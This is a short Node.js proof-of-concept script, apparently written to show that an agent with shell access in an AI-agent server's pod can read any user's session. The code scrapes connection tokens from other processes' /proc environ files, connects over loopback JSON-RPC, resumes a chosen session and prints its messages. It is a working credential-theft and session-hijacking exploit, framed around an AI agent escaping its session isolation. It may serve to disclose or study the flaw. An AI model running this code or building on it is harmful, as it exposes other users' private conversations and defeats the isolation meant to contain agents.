// What an agent with a shell can do, in the server's pod: it takes the connection token from the environment of its own server, connects
// on the loopback, and reads any session. `node read-session.mjs PORT SESSION`
import { readFileSync, readdirSync } from 'node:fs';
import { connect } from 'node:net';

const [port, sessionId] = process.argv.slice(2);
const TOKEN = 'COPILOT_CONNECTION_TOKEN=';

/** The environments of all processes that this one may look at. */
function environments() {
  return readdirSync('/proc').flatMap((pid) => {
    try {
      return /^\d+$/.test(pid) ? readFileSync(`/proc/${pid}/environ`, 'utf8').split('\0') : [];
    } catch {
      // It has ended, or is another user's.
      return [];
    }
  });
}

const tokens = new Set(
  environments()
    .filter((entry) => entry.startsWith(TOKEN))
    .map((entry) => entry.slice(TOKEN.length)),
);
const socket = connect(Number(port), '127.0.0.1');
const send = (id, method, params) => {
  const body = JSON.stringify({ jsonrpc: '2.0', id, method, params });
  socket.write(`Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`);
};
for (const token of tokens) send('c', 'connect', { token });
send('r', 'session.resume', { sessionId, disableResume: true });
let received = Buffer.alloc(0);
/** The bodies of the frames that have arrived as a whole. */
function* bodies() {
  for (;;) {
    const head = /^Content-Length: (\d+)\r\n\r\n/.exec(received.toString('latin1', 0, 64));
    const end = head && head[0].length + Number(head[1]);
    if (!end || received.length < end) return;
    yield received.toString('utf8', head[0].length, end);
    received = received.subarray(end);
  }
}
socket.on('data', (chunk) => {
  received = Buffer.concat([received, chunk]);
  for (const body of bodies()) {
    const { id } = JSON.parse(body);
    if (id === 'r') send('m', 'session.getMessages', { sessionId });
    if (id === 'm') process.stdout.write(body, () => socket.destroy());
  }
});
